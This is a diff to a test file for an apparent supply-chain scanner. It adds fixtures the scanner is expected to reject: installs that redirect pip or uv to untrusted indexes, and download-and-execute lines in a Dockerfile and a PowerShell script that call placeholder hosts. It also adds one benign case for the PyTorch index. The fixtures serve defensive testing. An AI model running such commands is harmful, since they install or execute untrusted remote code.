@@ -85,6 +85,21 @@ ATTACKS: list[tuple[str, dict[str, str], Expected]] = [
     # pipx installs and puts the fork's console scripts on PATH.
     ("pipx fork", {"README.md": "```\npipx install git+https://github.com/someone/sglang-cli\n```\n"},
      _reject("forked-code")),
+    # pip and uv read their index from the environment and from config files as well.
+    ("index from environment", {"Dockerfile": "FROM python:3.11\nENV PIP_INDEX_URL=https://pypi.example.invalid/simple\n"
+                                               "RUN pip install vllm\n"},
+     _reject("untrusted-package-index")),
+    ("pip config set", {"install.sh": "pip config set global.extra-index-url https://pypi.example.invalid/simple\n"
+                                      "pip install vllm\n"},
+     _reject("untrusted-package-index")),
+    ("pip.conf shipped", {"pip.conf": "[global]\nindex-url = https://pypi.example.invalid/simple\n"},
+     _reject("untrusted-package-index")),
+    ("uv index in pyproject", {"pyproject.toml": '[project]\nname = "x"\n\n[[tool.uv.index]]\nname = "fast"\n'
+                                                 'url = "https://pypi.example.invalid/simple"\n'},
+     _reject("untrusted-package-index")),
+    # -iURL: pip's short options take their value attached.
+    ("attached short index", {"install.sh": "pip install -ihttps://pypi.example.invalid/simple vllm\n"},
+     _reject("untrusted-package-index")),
     # conda -c: packages (with install scripts and binaries) come from that channel first.
     ("conda channel", {"README.md": "```\nconda install -c canada-quant vllm\n```\n"},
      _reject("untrusted-package-index")),
@@ -135,6 +150,14 @@ ATTACKS: list[tuple[str, dict[str, str], Expected]] = [
     # ADD of a git URL clones the repo into the image.
     ("dockerfile add git", {"Dockerfile": "FROM ubuntu:24.04\nADD https://github.com/someone/vllm.git /src/vllm\n"},
      _reject("forked-code")),
+    # ADD's JSON form fetches the same way.
+    ("dockerfile add json", {"Dockerfile": 'FROM ubuntu:24.04\nADD ["https://example.invalid/a.sh", "/opt/a.sh"]\n'
+                                           "RUN sh /opt/a.sh\n"},
+     _reject("download-and-execute", reason="critical-finding")),
+    # PowerShell variables carry the URL into Invoke-WebRequest, then the call operator runs it.
+    ("powershell variable",
+     {"install.ps1": '$u = "https://example.invalid/x.exe"\niwr $u -OutFile x.exe\n& .\\x.exe\n'},
+     _reject("download-and-execute", reason="critical-finding")),
     # A shell variable set earlier and used by the download that runs.
     ("shell variable url", {"install.sh": "URL=https://example.invalid/k.run\nwget \"$URL\" -O k.run\nsh k.run\n"},
      _reject("download-and-execute", reason="critical-finding")),
@@ -175,6 +198,9 @@ BENIGN: list[tuple[str, dict[str, str], Expected]] = [
                                        "pip install git+https://github.com/huggingface/transformers\n```\n",
                                        "requirements.txt": "vllm\nflash-attn\n"},
      Expected(THIRD, "review", absent=_RISKY, reasons=frozenset({"third-party"}))),
+    # The PyTorch wheel index in pip.conf is an upstream index.
+    ("official pip.conf", {"pip.conf": "[global]\nextra-index-url = https://download.pytorch.org/whl/cu128\n"},
+     Expected(VENDOR, "approve", absent=_RISKY)),
     # Papers, arXiv and upstream code in prose are references, not installs.
     ("paper links", {"README.md": "[paper](https://arxiv.org/abs/2412.19437) · <https://github.com/vllm-project/vllm> "
                      "· [code][c]\n\n[c]: https://github.com/deepseek-ai/DeepSeek-V3\n"
